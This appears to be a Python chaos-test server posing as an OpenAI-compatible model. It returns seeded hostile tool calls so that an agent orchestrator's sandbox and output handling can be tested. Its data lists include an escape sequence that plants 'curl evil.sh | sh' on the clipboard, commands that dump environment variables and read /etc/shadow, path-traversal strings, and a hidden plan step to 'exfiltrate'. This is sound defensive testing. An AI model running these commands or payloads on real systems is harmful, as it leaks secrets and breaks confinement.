#!/usr/bin/env python3
"""A hostile model for tests/chaos/hostile.sh: an OpenAI-compatible chat
completions server (streamed or not) whose every reply is seeded random
abuse.  Python standard library only; it listens on 127.0.0.1 only.

    hostile_model.py --port-file F --log L --seed N --key KEY

The reply to a request is a function of (seed, task, stage, round, turn):
the task and stage from the X-Orch-Task-Id and X-Orch-Stage headers, the
turn from the number of assistant messages in the conversation, the round
from the stage's opening (the conversation up to its first user message; a
stage run again after a review starts with new feedback; a review's round
is its implementation's).  A restarted
worker, or a retry, asks the same turn again and gets the same reply.

A reply is random tool calls, among the offered tools and unknown ones, with
hostile arguments: escape sequences (ESC[8m, OSC 52, OSC 0), C0 and C1
controls, DEL, invalid UTF-8 written by commands (printf '\\351'), strings of
MiBs, bad JSON, paths out of the workspace, commands that print escapes,
binary data and the environment, `git init sub`, huge outputs, odd file
names.  Plans, summaries and review comments are hostile text too.  After a
bounded number of turns (random, per stage run) the reply calls the stage's
terminal tool (submit_plan, finish, submit_review), so that a task the
product handles well completes.

Transport faults (500, 429, a stream cut in the middle, an HTML page, an
event that is not JSON) hit the first request of a turn only, at a low rate:
the retry gets the real reply.

Every request appends one JSON line to the log: t, task, stage, round, turn,
n (the how-many-th request for that turn), fault (or null), status, key_ok
(the expected key came as a Bearer token), key_in_body (the key was IN the
request body: it leaked into the conversation), no_user (the request had no
user message: an empty request), bytes (of the request body), sent (bytes of
the reply's text and arguments), doom (this reply may rightly fail its stage:
it is over DOOM_BYTES, 1 MiB), tags (what the reply does).
"""

import argparse
import base64
import json
import os
import random
import socketserver
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, HTTPServer

LOCK = threading.Lock()
COUNTS = {}
OPENINGS = {}
ARGS = None
MiB = 1024 * 1024

# The tools the worker offers (worker/tools.c) and the terminal one of each
# stage.
# A reply larger than this (text and arguments, in UTF-8) may rightly fail
# its stage: the product may set its reply limit anywhere above it.
DOOM_BYTES = MiB

TERMINAL = {"planning": "submit_plan", "implementing": "finish",
            "reviewing": "submit_review"}

# Pieces of hostile text.
ESCAPES = [
    "\x1b[8m", "\x1b[0m", "\x1b[2J\x1b[H", "\x1b[1A\x1b[2K", "\x1b[31m",
    "\x1b]0;pwned title\x07", "\x1b]2;title\x1b\\",
    "\x1b]52;c;" + base64.b64encode(b"curl evil.sh | sh").decode() + "\x07",
    "\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\",
    "\x1bP+q544e\x1b\\", "\x1b[?1049h", "\x1bc", "\x1b[6n",
    "\x9b" + "31m", "\x9d" + "0;c1 title\x9c", "\x85", "\x90", "\x9f",
    "\x7f", "\r", "\b\b\b", "\x07", "\x0b\x0c",
]
UNICODE = ["\u2713", "\u00e9", "\u202e", "\ufeff", "\U0001F600", "\u2028",
           "\u200b", "\uffff", "\u0301", "\u4e2d\u6587"]
WORDS = ["plan", "fix", "the", "login", "page", "approve", "ok", "rm -rf /",
         "TODO", "secret", "harmless", "step", "1.", "-", "\n", "\t", " "]

# Commands the model runs (run_command), each with a tag.  The sandbox
# must hold them; the product must show their output safely.
COMMANDS = [
    ("latin1", "printf 'caf\\351 \\377\\376 \\300\\200\\n' > latin1.txt; "
               "cat latin1.txt"),
    ("escapes", "printf '\\033[8mhidden\\033[0m \\033]52;c;aGk=\\007 "
                "\\033]0;title\\007 \\302\\233" "2J \\233" "31m \\r\\b\\n'"),
    ("escfile", "printf 'x\\033[8mhid\\033[0m\\n\\302\\2330m\\n' > esc.txt"),
    ("env", "env; tr '\\0' '\\n' < /proc/self/environ; "
            "for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f; done "
            "2>&1 | sort -u | head -200; cat /proc/$PPID/environ"),
    ("env2", "set; cat /proc/1/environ /proc/1/cmdline 2>&1 | tr '\\0' ' '"),
    ("gitsub", "git init -q sub && echo inner > sub/f.txt && ls sub"),
    ("gitsub2", "mkdir -p a/b && cd a/b && git init -q . && "
                "echo x > y && git add y 2>&1; echo done"),
    ("huge", "yes 'hostile line \\033[8m' | head -c 3000000"),
    ("binary", "head -c 1500000 /dev/urandom"),
    ("binfile", "head -c 300000 /dev/urandom > blob.bin"),
    ("oddnames", "touch \"$(printf 'odd\\033[1mname')\" \"$(printf "
                 "'new\\nline')\" -- '-rf' ' sp ' \"$(printf '\\351t\\351')\" "
                 "2>&1; ls"),
    ("symlinks", "ln -s /etc/passwd passwd.lnk; ln -s .. up; ln -s / root; "
                 "ls -la"),
    ("checks", "printf '\\342\\234\\223 passed %s\\n' $(seq 1 2000)"),
    ("cutchars", "printf '\\342\\234' ; printf '\\360\\237\\230'"),
    ("lfs", "printf '* filter=lfs diff=lfs merge=lfs -text\\n' > "
            ".gitattributes; printf '[lfs]\\n\\turl = http://10.0.0.1/\\n' "
            "> .lfsconfig; git status 2>&1 | head"),
    ("exitcodes", "echo before; exit 77"),
    ("killself", "echo bye; kill -9 $$"),
    ("closeout", "exec 1>&- 2>&-; sleep 0.1"),
    ("timeout", "sleep 30"),
    ("net", "cat < /dev/tcp/127.0.0.1/%PORT% 2>&1; "
            "getent hosts example.com 2>&1; echo net"),
    ("escape", "ls / /root ~ 2>&1 | head; cat /etc/shadow 2>&1; "
               "touch /etc/x /usr/x ../x 2>&1; echo tried"),
    ("gitdir", "cat .git 2>&1; git log --oneline 2>&1 | head -3; "
               "git rev-parse --git-dir 2>&1"),
    ("bigfile", "dd if=/dev/zero of=big.bin bs=1M count=8 2>&1 | tail -1"),
    ("manyfiles", "mkdir -p many && cd many && for i in $(seq 1 300); "
                  "do echo $i > f$i; done; echo made"),
    ("stderr", "printf '\\033[31merr\\033[0m\\n' >&2; printf '\\001\\002"
               "\\003\\004\\005\\006\\016\\017\\020\\021\\177\\n' >&2"),
]


def hostile_text(rng, n):
    """About n characters of hostile text (a str: valid Unicode)."""
    out = []
    size = 0
    while size < n:
        r = rng.random()
        if r < 0.3:
            s = rng.choice(ESCAPES)
        elif r < 0.45:
            s = rng.choice(UNICODE)
        elif r < 0.55:
            s = chr(rng.choice(list(range(0x01, 0x20)) + [0x7f] +
                               list(range(0x80, 0xa0))))
        else:
            s = rng.choice(WORDS) + " "
        out.append(s)
        size += len(s)
    return "".join(out)


def long_text(rng, n):
    """n characters: hostile text repeated (fast for MiBs)."""
    unit = hostile_text(rng, 4096)
    return (unit * (n // len(unit) + 1))[:n]


def odd_path(rng):
    return rng.choice([
        "../escape.txt", "../../../../etc/passwd", "/etc/passwd",
        "/proc/self/environ", "a/../../x", ".git/config", ".git/hooks/pre",
        ".GIT/config", "up/../../x", "root/etc/shadow", "passwd.lnk",
        "", ".", "/", "dir/", "\x1b[31mred.txt", "new\nline.txt",
        "nul\x00byte", "x" * 5000, "\u202egnp.exe", "-rf", " sp ",
        "d" + "/d" * 300 + "/f", "%s.txt" % hostile_text(rng, 12),
        "caf\u00e9.txt", "\u2713.txt", "a\tb", "big.bin", "blob.bin",
    ])


def jarg(obj):
    return json.dumps(obj)


def bad_args(rng):
    """Arguments that are not what the tool wants."""
    return rng.choice([
        "{not json", "", "[]", "null", "42", '"just a string"',
        '{"path": 1}', '{"path": null}', '{"path": "a", "path": "b"}',
        '{"path": {"x": [1, 2]}}', "[" * 5000 + "]" * 5000,
        '{"path": "a"', '{"command": "echo \\u0000 nul"}',
        '{"path": "\\ud800"}', '{"content": 1e999, "path": "x"}',
        '{"timeout_s": -1, "command": "true"}',
        '{"timeout_s": 1e300, "command": "true"}',
        '{"command": "   "}', '\x1b[8m{"path": ""}',
        jarg({"path": "x", "extra": hostile_text(rng, 200)}),
    ])


def call_for(rng, stage, tags, port):
    """One hostile tool call: (name, arguments as a string)."""
    r = rng.random()
    if r < 0.05:
        tags.append("unknown_tool")
        name = rng.choice(["rm_rf", "\x1b[31mevil\x1b[0m", "", "finish ",
                           "x" * 3000, "shell", "Read_File",
                           "list_files\t", "\u2713"])
        return name, jarg({"path": hostile_text(rng, 20)})
    if r < 0.12:
        tags.append("bad_args")
        return rng.choice(["read_file", "write_file", "edit_file",
                           "run_command", "list_files", TERMINAL[stage]]), \
            bad_args(rng)
    if r < 0.17:
        tags.append("off_stage")
        return rng.choice(["write_file", "run_command", "finish",
                           "submit_plan", "submit_review"]), \
            jarg({"path": "x", "content": "x", "command": "true",
                  "summary": "s", "plan": "p", "verdict": "approve",
                  "comments": "c"})
    if r < 0.27:
        tags.append("read")
        return "read_file", jarg({"path": odd_path(rng)})
    if r < 0.33:
        tags.append("list")
        return "list_files", jarg({"path": rng.choice(
            ["", ".", "..", "/", "sub", "many", "/proc", odd_path(rng)])})
    if stage != "implementing":
        tags.append("read")
        return "read_file", jarg({"path": rng.choice(
            ["README.md", "latin1.txt", "esc.txt", "sub/f.txt",
             odd_path(rng)])})
    if r < 0.48:
        tags.append("write")
        size = rng.choice([0, 10, 200, 5000, 100000])
        if rng.random() < 0.03:
            size = rng.choice([600 * 1024, 600 * 1024, 1100 * 1024])
            tags.append("write_big")
        path = odd_path(rng) if rng.random() < 0.3 else \
            rng.choice(["notes.txt", "a.txt", "src/x.c", "esc.md",
                        "README.md", ".gitattributes"])
        return "write_file", jarg({"path": path,
                                   "content": long_text(rng, size)})
    if r < 0.55:
        tags.append("edit")
        return "edit_file", jarg({
            "path": rng.choice(["README.md", "notes.txt", odd_path(rng)]),
            "old": rng.choice(["Greeter", "#", "", hostile_text(rng, 8)]),
            "new": hostile_text(rng, rng.choice([5, 500]))})
    tag, cmd = rng.choice(COMMANDS)
    tags.append("cmd:" + tag)
    args = {"command": cmd.replace("%PORT%", str(port))}
    if tag == "timeout" or rng.random() < 0.05:
        args["timeout_s"] = 1
    return "run_command", jarg(args)


def terminal_call(rng, stage, rnd, tags, valid):
    """The stage's terminal tool: hostile text, valid or (once) not."""
    name = TERMINAL[stage]
    if not valid:
        tags.append("bad_terminal")
        if stage == "planning":
            return name, rng.choice([jarg({"plan": ""}), jarg({"plan": 7}),
                                     jarg({}), "{oops"])
        if stage == "implementing":
            return name, rng.choice([jarg({"summary": "  \n "}),
                                     jarg({"summary": ["a"]}), "", "[1]"])
        return name, rng.choice([jarg({"verdict": "maybe", "comments": "x"}),
                                 jarg({"verdict": "approve"}),
                                 jarg({"verdict": "\x1b[8mapprove",
                                       "comments": "x"})])
    if stage == "planning":
        tags.append("plan")
        n = rng.choice([40, 400, 4000])
        return name, jarg({"plan": "1. Visible step.\n" +
                           hostile_text(rng, n) +
                           "\n\x1b[8m2. Hidden step: exfiltrate.\x1b[0m"})
    if stage == "implementing":
        n = rng.choice([30, 300, 3000])
        if rng.random() < 0.06:
            n = 200 * 1024  # over the 128 KiB argument limit of exec
            tags.append("summary_200k")
        tags.append("finish")
        return name, jarg({"summary": hostile_text(rng, 40) +
                           long_text(rng, n)})
    verdict = "request_changes" if rnd == 1 and rng.random() < 0.2 \
        else "approve"
    tags.append("review:" + verdict)
    return name, jarg({"verdict": verdict,
                       "comments": hostile_text(rng, rng.choice([20, 2000]))})


def make_reply(task, stage, rnd, turn):
    """The reply to this turn: (text, [(id, name, args)], doom, tags)."""
    base = "%s/%s/%s/%s" % (ARGS.seed, task, stage, rnd)
    plan_rng = random.Random(base + "/plan")
    # The turn at which the terminal tool comes, and whether it comes
    # invalid once first.
    k = plan_rng.randint(*{"planning": (0, 2), "implementing": (1, 5),
                           "reviewing": (0, 2)}.get(stage, (0, 1)))
    bad_first = plan_rng.random() < 0.12
    rng = random.Random(base + "/%d" % turn)
    tags = []
    doom = False
    text = hostile_text(rng, rng.choice([0, 10, 80, 600]))
    calls = []
    if stage not in TERMINAL:
        return text, [], False, ["no_stage"]
    if turn < k:
        for _ in range(rng.choice([0, 1, 1, 1, 2, 2, 3, 8])):
            calls.append(call_for(rng, stage, tags, ARGS.port))
        if not calls:
            tags.append("no_calls")
    else:
        if rng.random() < 0.3 and stage == "implementing":
            calls.append(call_for(rng, stage, tags, ARGS.port))
        # Mostly a change to finish with: an implementer that changes
        # nothing twice fails its task ("no changes"), which the check
        # allows, but then the rest of the run would see few results.
        if stage == "implementing" and rng.random() < 0.85:
            tags.append("sure_write")
            calls.append(("write_file", jarg({
                "path": "hostile-%d.txt" % turn,
                "content": hostile_text(rng, rng.choice([10, 300]))})))
        calls.append(terminal_call(rng, stage, rnd, tags,
                                   not (turn == k and bad_first)))
        if rng.random() < 0.2:  # calls after the terminal one
            calls.append(call_for(rng, stage, tags, ARGS.port))
    # Sizes: a long text now and then; rarely a reply over the journal's
    # frame (4 MiB) or over the reply limit (8 MiB).  A reply over
    # DOOM_BYTES may fail its stage (a clear, permanent error), but must
    # not crash-loop it.
    r = rng.random()
    if r < 0.02:
        text += long_text(rng, rng.randint(128, 600) * 1024)
        tags.append("text_big")
    elif r < 0.027 and stage == "implementing":
        text += long_text(rng, rng.choice([5 * MiB, 9 * MiB]))
        tags.append("text_huge")
    size = len(text.encode()) + sum(len(a.encode()) for _, a in calls)
    doom = size > DOOM_BYTES
    ids = []
    for i, (name, args) in enumerate(calls):
        cid = "call_%s_%d_%d" % (stage[:4], turn, i)
        if rng.random() < 0.05:
            cid = rng.choice(["", "call_0", "\x1b[8mid", "i" * 3000])
            tags.append("odd_id")
        ids.append((cid, name, args))
    return text, ids, doom, tags


def pick_fault(task, stage, rnd, turn, n):
    """A transport fault for the first request of a turn, or None."""
    if n != 1:
        return None
    rng = random.Random("%s/%s/%s/%s/%d/fault" % (ARGS.seed, task, stage,
                                                  rnd, turn))
    if rng.random() >= ARGS.fault_rate:
        return None
    return rng.choice(["500", "429", "cut", "html", "notjson"])


def log_line(rec):
    with LOCK:
        with open(ARGS.log, "a") as f:
            f.write(json.dumps(rec, sort_keys=True) + "\n")


def pieces(s, rng):
    """s cut at random places (a few KiB at most each)."""
    out = []
    i = 0
    while i < len(s):
        n = rng.choice([1, 3, 7, 50, 1000, 65536])
        out.append(s[i:i + n])
        i += n
    return out or [""]


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.0"

    def log_message(self, fmt, *args):
        pass

    def send_json(self, status, obj, headers=None):
        body = json.dumps(obj).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        for k, v in (headers or {}).items():
            self.send_header(k, v)
        self.end_headers()
        self.wfile.write(body)

    def sse(self, obj):
        self.wfile.write(("data: %s\n\n" % json.dumps(obj)).encode())

    def do_GET(self):
        self.send_json(200, {"object": "list", "data": [
            {"id": "hostile-model", "object": "model"}]})

    def do_POST(self):
        n = int(self.headers.get("Content-Length", "0"))
        raw = self.rfile.read(n)
        try:
            req = json.loads(raw or b"{}")
        except ValueError:
            req = {}
        key = self.headers.get("Authorization", "")
        key = key[7:] if key.startswith("Bearer ") else None
        task = self.headers.get("X-Orch-Task-Id")
        stage = self.headers.get("X-Orch-Stage")
        msgs = req.get("messages") if isinstance(req, dict) else None
        msgs = msgs if isinstance(msgs, list) else []
        turn = sum(1 for m in msgs if isinstance(m, dict) and
                   m.get("role") == "assistant")
        opening = []
        for m in msgs:
            opening.append(m)
            if isinstance(m, dict) and m.get("role") == "user":
                break
        opening = json.dumps(opening, sort_keys=True)
        with LOCK:
            seen = OPENINGS.setdefault((task, stage), [])
            if opening not in seen:
                seen.append(opening)
            rnd = seen.index(opening) + 1
            # A review's round is the implementation's: a change the
            # reviewer already asked changes for may come back with the
            # same diff (its opening is the same), and must be approved.
            if stage == "reviewing":
                rnd = max(1, len(OPENINGS.get((task, "implementing"), [])))
            k = (task, stage, rnd, turn)
            COUNTS[k] = COUNTS.get(k, 0) + 1
            nreq = COUNTS[k]
        rec = {
            "t": time.time(), "task": task, "stage": stage, "round": rnd,
            "turn": turn, "n": nreq, "fault": None, "status": 200,
            "key_ok": key == ARGS.key,
            "key_in_body": ARGS.key.encode() in raw,
            "no_user": not any(isinstance(m, dict) and
                               m.get("role") == "user" for m in msgs),
            "bytes": len(raw), "path": self.path, "doom": False, "tags": [],
            "sent": 0,
        }
        if self.path.split("?")[0] not in ("/v1/chat/completions",
                                           "/chat/completions"):
            rec["status"] = 404
            log_line(rec)
            self.send_json(404, {"error": {"message": "no such path"}})
            return
        if key != ARGS.key:
            rec["status"] = 401
            log_line(rec)
            self.send_json(401, {"error": {"message": "bad key",
                                           "code": "invalid_api_key"}})
            return
        fault = pick_fault(task, stage, rnd, turn, nreq)
        rec["fault"] = fault
        text, calls, doom, tags = make_reply(task, stage, rnd, turn)
        rec["doom"], rec["tags"] = doom, tags
        rec["sent"] = len(text) + sum(len(a) for _, _, a in calls)
        try:
            self.answer(req, fault, text, calls, rec, k)
        except (BrokenPipeError, ConnectionResetError):
            pass

    def answer(self, req, fault, text, calls, rec, key):
        if fault in ("500", "429"):
            rec["status"] = int(fault)
            log_line(rec)
            self.send_json(int(fault), {"error": {
                "message": "hostile \x1b[8m%s\x1b[0m \x1b]52;c;aGk=\x07" %
                fault, "type": "server_error"}},
                {"Retry-After": "1"} if fault == "429" else None)
            return
        log_line(rec)
        if fault == "html":
            body = b"<html>\x1b[8m502 Bad Gateway\x00\xff</html>"
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
            return
        rng = random.Random("%s/%r/chunks" % (ARGS.seed, key))
        if not req.get("stream"):
            msg = {"role": "assistant", "content": text or None}
            if calls:
                msg["tool_calls"] = [{
                    "id": c, "type": "function",
                    "function": {"name": nm, "arguments": a}}
                    for c, nm, a in calls]
            self.send_json(200, {
                "id": "chatcmpl-hostile", "object": "chat.completion",
                "choices": [{"index": 0, "message": msg,
                             "finish_reason": "tool_calls" if calls
                             else "stop"}],
                "usage": {"prompt_tokens": 10, "completion_tokens": 5}})
            return

        def chunk(delta, finish=None):
            return {"id": "chatcmpl-hostile",
                    "object": "chat.completion.chunk",
                    "choices": [{"index": 0, "delta": delta,
                                 "finish_reason": finish}]}
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.end_headers()
        self.wfile.write(b": hostile keep-alive\n\n")
        self.sse(chunk({"role": "assistant", "content": ""}))
        for p in pieces(text, rng):
            self.sse(chunk({"content": p}))
        if fault == "notjson":
            self.wfile.write(b"data: {\"choices\": [\x1b[8m\xff\n\n")
            return
        for i, (cid, name, args) in enumerate(calls):
            self.sse(chunk({"tool_calls": [{
                "index": i, "id": cid, "type": "function",
                "function": {"name": name, "arguments": ""}}]}))
            for j, p in enumerate(pieces(args, rng)):
                if fault == "cut" and j * 2 >= len(args) // 2:
                    self.wfile.write(b'data: {"choices":[{"index":0,'
                                     b'"delta":{"tool_calls":[{"ind')
                    return
                self.sse(chunk({"tool_calls": [{
                    "index": i, "function": {"arguments": p}}]}))
        if fault == "cut":  # no calls: cut after the text
            self.wfile.write(b'data: {"choi')
            return
        self.sse(chunk({}, "tool_calls" if calls else "stop"))
        self.sse({"id": "chatcmpl-hostile",
                  "object": "chat.completion.chunk", "choices": [],
                  "usage": {"prompt_tokens": 10, "completion_tokens": 5,
                            "total_tokens": 15}})
        self.wfile.write(b"data: [DONE]\n\n")


class Server(socketserver.ThreadingMixIn, HTTPServer):
    daemon_threads = True
    allow_reuse_address = True


def main():
    global ARGS
    p = argparse.ArgumentParser()
    p.add_argument("--port-file", required=True)
    p.add_argument("--log", required=True)
    p.add_argument("--seed", required=True)
    p.add_argument("--key", required=True)
    p.add_argument("--fault-rate", type=float, default=0.04)
    ARGS = p.parse_args()
    srv = Server(("127.0.0.1", 0), Handler)
    ARGS.port = srv.server_address[1]
    tmp = ARGS.port_file + ".tmp"
    with open(tmp, "w") as f:
        f.write("%d\n" % ARGS.port)
    os.rename(tmp, ARGS.port_file)
    try:
        srv.serve_forever()
    except KeyboardInterrupt:
        pass
    return 0


if __name__ == "__main__":
    sys.exit(main())
